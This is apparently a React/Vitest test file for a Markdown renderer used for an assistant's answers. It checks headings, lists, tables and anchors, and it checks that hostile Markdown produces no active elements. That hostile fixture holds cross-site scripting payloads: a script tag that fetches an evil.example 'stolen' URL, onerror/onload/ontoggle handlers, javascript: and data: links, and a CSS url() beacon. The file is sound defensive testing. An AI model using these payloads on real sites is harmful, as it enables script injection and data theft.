import { render, screen } from '@testing-library/react'
import { beforeAll, describe, expect, it, vi } from 'vitest'
import { loadAreas, startI18n } from '../../../lib/i18n.ts'
import { withoutAnchorCharacters, splitAtAnchors, withAnchors } from './anchors.ts'
import { blockReader } from './blocks.ts'
import { AnchorContext, Markdown } from './markdown.tsx'

const renderView = (text: string) => render(<Markdown blocks={blockReader()(text)} />).container

/** Elements and attributes that make a browser fetch, run, submit or follow something. */
const activeElements =
  'a, img, script, iframe, object, embed, link, style, svg image, video, audio, source, form, input, base, meta, [src], [href], [srcset], [style*="url"], [onerror], [onclick]'

const hostile = `<script>fetch('https://evil.example/stolen')</script><img src="https://evil.example/pixel.png" onerror="alert(1)"> ![figura](https://evil.example/figure.png) [pulse aquí](https://evil.example/link) <a href="https://evil.example/link">aquí</a>

<iframe src="https://evil.example/frame"></iframe>

[x](javascript:alert(1)) <https://evil.example/auto> https://evil.example/bare y [ref][1] ![ref][1]

[1]: https://evil.example/definition

<style>body{background:url(https://evil.example/css)}</style>

| <img src=x> | ![a](https://evil.example/t.png) |
|---|---|
| <svg onload=alert(1)> | \`<b>\` |

- <details open ontoggle=alert(1)>
- [lista](data:text/html,<script>alert(1)</script>)

> ![cita](//evil.example/q.png)

\`\`\`html
<img src="https://evil.example/code.png">
\`\`\``

describe('the Markdown of an answer', () => {
  beforeAll(async () => {
    await startI18n('es')
    await loadAreas(['assistant'])
  })

  it('renders Markdown as elements', () => {
    const box = renderView(
      '## Título\n\nUno **dos** *tres* ~~cuatro~~ `cinco` &amp; \\*seis\\*\n\n3. a\n4. b\n   - c\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n> cita\n\n---\n\n- [x] hecho',
    )
    expect(box.querySelector('h3')?.textContent).toBe('Título')
    expect(box.querySelector('p')?.textContent).toBe('Uno dos tres cuatro cinco & *seis*')
    expect(box.querySelector('ol')?.start).toBe(3)
    expect(box.querySelectorAll('ol ul li')).toHaveLength(1)
    expect([...box.querySelectorAll('td')].map((cell) => [cell.textContent, cell.style.textAlign])).toEqual([
      ['1', 'left'],
      ['2', 'right'],
    ])
    expect(box.querySelector('blockquote')?.textContent).toBe('cita')
    expect(screen.getByText(/☑/)).toBeTruthy()
  })

  it('renders no element that loads, runs or navigates, for hostile Markdown', () => {
    const fetched = vi.spyOn(globalThis, 'fetch')
    const box = renderView(hostile)
    expect([...box.querySelectorAll(activeElements)].map((element) => element.outerHTML)).toEqual([])
    expect(fetched).not.toHaveBeenCalled()
    // The address is readable text that can be copied.
    for (const address of [
      'https://evil.example/figure.png',
      'https://evil.example/link',
      'javascript:alert(1)',
      'https://evil.example/bare',
    ])
      expect(box.textContent).toContain(address)
    expect(box.textContent).toContain("<script>fetch('https://evil.example/stolen')</script>")
  })

  it('renders anchors, and does not re-render final blocks while the text grows', () => {
    const readBlocks = blockReader()
    const renderAnchor = vi.fn<(id: number) => string>((id) => `⟦${id}⟧`)
    const text = withoutAnchorCharacters('**Sí.** Hay dos.\n\n- uno\n- dos')
    const markdownElement = (given: string) => (
      <AnchorContext value={renderAnchor}>
        <Markdown
          blocks={readBlocks(
            withAnchors(
              given,
              [
                { at: 7, id: 0 },
                { at: 15, id: 1 },
              ],
              true,
            ),
          )}
        />
      </AnchorContext>
    )
    const { container, rerender } = render(markdownElement(text))
    expect(container.querySelector('p')?.textContent).toBe('Sí.⟦0⟧ Hay dos⟦1⟧.')
    expect(container.querySelector('li:last-child [data-caret]')).toBeTruthy()
    const first = container.querySelector('p')
    rerender(markdownElement(`${text} tres`))
    expect(container.querySelector('p')).toBe(first)
    expect(container.textContent).toContain('dos tres')
    expect(splitAtAnchors(container.textContent ?? '').every(({ kind }) => kind === 'text')).toBe(true)
  })
})
